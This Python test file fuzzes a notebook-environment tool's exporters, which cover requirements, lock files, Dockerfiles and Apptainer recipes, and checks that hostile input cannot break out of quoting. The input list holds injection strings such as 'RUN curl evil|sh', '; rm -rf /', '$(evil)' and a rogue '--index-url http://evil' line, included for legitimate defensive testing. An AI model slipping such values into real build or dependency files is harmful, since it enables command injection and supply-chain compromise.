"""Whatever a stranger's notebook says, no format lets it out of its value or its comment."""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Callable
from contextlib import suppress
from typing import Any

import msgspec
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from packaging.pylock import Pylock
from packaging.requirements import Requirement
from ruamel.yaml import YAML

from jupyter_repro.errors import ReproError
from jupyter_repro.formats.exporters.formats import FORMATS
from jupyter_repro.formats.exporters.request import CannotExportError
from jupyter_repro.formats.exporters.text import quoted
from jupyter_repro.model.snapshot import Snapshot
from tests.unit.support.exports import COMMIT, File, exported
from tests.unit.support.factories import FORGE, make_layers, make_snapshot

if sys.version_info >= (3, 11):
    import tomllib
else:
    import tomli as tomllib

# What a shell, a Dockerfile, YAML, TOML, JSON, pip and Markdown take for more than text
NASTY = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            *("1e3", "0o17", "1.10", "12:30:45", "yes", "null", "~", "2026-01-01", "<<", "-rf"),
            *('"', "\\", "'", "\n", "\r\nRUN curl evil|sh", "\x85- evil", "\u2028- evil", "\x00"),
            *("# ", ": ", "- ", "$(evil)", "${{ evil }}", "`evil`", "; rm -rf /", "&& evil"),
            *("\n[[packages]]", '"\nname = "evil', "../../evil", "%post", "\n%post\nevil"),
            *("\n--index-url http://evil", " --hash=sha256:", "\\\n", "@EXPLICIT\nhttps://evil/x"),
            *("```", "</details>", "\ud800", "\u202e", "\ufeff", "😀", "{{", "}}"),
        ]
    ),
)

ALL_CHARACTERS = {*map(chr, range(32, 127)), "\n"}


def a_snapshot(one: str, two: str, three: str, four: str) -> Snapshot:
    text = one + two
    layers = make_layers(
        conda={
            "name": one,
            "reason": two,
            "channels": [three, text, f"https://example.org/{one}"],
            "install_order": [one, two],
            "requested": [one, f"zlib{two}", f"{three}::a", text],
            "packages": {
                FORGE: [
                    f"zlib-1.3.1-h4ab18f5_1.conda#{'a' * 32}",
                    f"{text}-{one}-{two}.conda",
                    text,
                ],
                f"{text}/noarch": [f"a{one}-1{two}-0{three}.conda#{four}"],
                f"https://conda.anaconda.org/{four}/linux-64": [f"b-1-0.conda#{'b' * 32}"],
            },
        },
        packages={
            "packages": [
                *(f"{text}=={one} [pip]", f"a{one}==1{two} [{three}]", text, "good==1.0 [pip]"),
                f"mine==1 [pip, git+https://example.org/{two}@{three}]",
                f"mine==1 [pip, git+https://example.org/mine@{COMMIT}#subdirectory={two}]",
                f"w==1 [pip, https://example.org/{two}.whl#sha256={'e' * 64}&a={three}]",
            ]
        },
        core={"python": three, "implementation": four},
        notebook={"used": ["zlib"]},
    )
    return msgspec.structs.replace(
        make_snapshot(), layers=layers, tool=text, created="2026-11-01T12:00:00Z", digest="0" * 64
    )


def an_index(name: str) -> list[File]:
    names = [f"{name}-{version}.tar.gz" for version in ("1.0", "1.1", "1.10")]
    return [File(one, f"https://example.org/{one}", "f" * 64) for one in names]


HEALTHY = ("a", ".1", "pip", "d")


def both_yamls(text: str) -> Any:
    old = yaml.safe_load(text)
    assert old == YAML(typ="safe", pure=True).load(text)
    return old


def check_explicit(text: str) -> None:
    head, _, rest = text.partition("\n@EXPLICIT\n")
    assert all(line.startswith("# ") for line in head.split("\n"))
    for line in rest.splitlines():
        address, _, digest = line.partition("#")
        assert address.startswith("https://conda.anaconda.org/")
        assert " " not in address
        assert len(digest) in {32, 71}


def check_requirements(text: str) -> None:
    for line in text.replace("\\\n", " ").splitlines():
        if not line.startswith("# "):
            requirement, *hashes = line.split("     --hash=sha256:")
            assert Requirement(requirement).marker is None
            assert all(len(digest) == 64 for digest in hashes)
            assert not requirement.startswith("-")


def check_pylock(text: str) -> None:
    lock = Pylock.from_dict(tomllib.loads(text))
    for package in lock.packages:
        assert re.fullmatch(r"[a-z0-9](?:[a-z0-9-]*[a-z0-9])?", package.name)


def check_conda_lock(text: str) -> None:
    read = both_yamls(text)
    assert set(read) == {"version", "metadata", "package"}
    for package in read["package"]:
        assert all(isinstance(package[key], str) for key in ("name", "version", "url"))


def check_pixi(text: str) -> None:
    read = both_yamls(text)
    assert set(read) == {"version", "environments", "packages"}
    for package in read["packages"]:
        assert set(package) & {"conda", "pypi"}
        assert all(isinstance(value, str) for value in package.values())


def check_environment(text: str) -> None:
    assert set(both_yamls(text)) <= {"name", "channels", "dependencies"}


CHECKS: dict[str, Callable[[str], None]] = {
    "environment.yml": check_environment,
    "explicit": check_explicit,
    "requirements.txt": check_requirements,
    "pylock.toml": check_pylock,
    "conda-lock.yml": check_conda_lock,
    "pixi.lock": check_pixi,
    "cyclonedx": json.loads,
    "ro-crate": json.loads,
}


# The other two are sentences for people
@pytest.mark.parametrize("name", sorted({*FORMATS} - {"paragraph", "markdown"}))
def test_digits_of_other_scripts_are_no_digits(name: str) -> None:
    core = {"python": "3.1\u0661.7", "implementation": "CPython"}
    snapshot = make_snapshot(make_layers(core=core, packages={"packages": ["a==1.\u0660 [pip]"]}))
    with suppress(CannotExportError):
        for text in exported(snapshot, name).files.values():
            lines = [line for line in text.splitlines() if "#" not in line]
            assert not re.search(r"[\u0660\u0661]|\\u066", "\n".join(lines))


def test_what_no_grammar_allows_is_refused_by_the_last_gate() -> None:
    for value in ('a"b', "a\\b", "\u0661", "", "a\n"):
        with pytest.raises(ReproError, match="The record holds what no export may contain"):
            quoted(value)


@pytest.mark.parametrize("name", CHECKS)
@settings(max_examples=60, deadline=None)
@given(NASTY, NASTY, NASTY, NASTY)
def test_nothing_breaks_out(name: str, one: str, two: str, three: str, four: str) -> None:
    for wishes in ({}, {"pins": "history"}) if name == "environment.yml" else ({},):
        try:
            made = exported(a_snapshot(one, two, three, four), name, files_of=an_index, **wishes)
        except CannotExportError as error:
            told = str(error)
        else:
            told = ""
        assert "\n" not in told
        if told:
            continue
        CHECKS[name](made.text)
        made.text.encode()
        if name not in {"cyclonedx", "ro-crate"}:
            assert set(made.text) <= ALL_CHARACTERS


@settings(max_examples=60, deadline=None)
@given(NASTY, NASTY, NASTY, NASTY)
def test_a_recipe_never_changes(one: str, two: str, three: str, four: str) -> None:
    snapshot = a_snapshot(one, two, three, four)
    for name, recipe in (("dockerfile", "Dockerfile"), ("apptainer", "apptainer.def")):
        plain = exported(a_snapshot(*HEALTHY), name, files_of=an_index)
        try:
            made = exported(snapshot, name, files_of=an_index)
        except CannotExportError as error:
            told = str(error)
        else:
            told = ""
        assert "\n" not in told
        if told:
            continue
        assert made.files[recipe] == plain.files[recipe]
        assert set(made.files) == set(plain.files)


@pytest.mark.parametrize("name", [name for name in FORMATS if name != "github-actions"])
def test_a_healthy_one_is_written(name: str) -> None:
    assert exported(a_snapshot(*HEALTHY), name, files_of=an_index).files
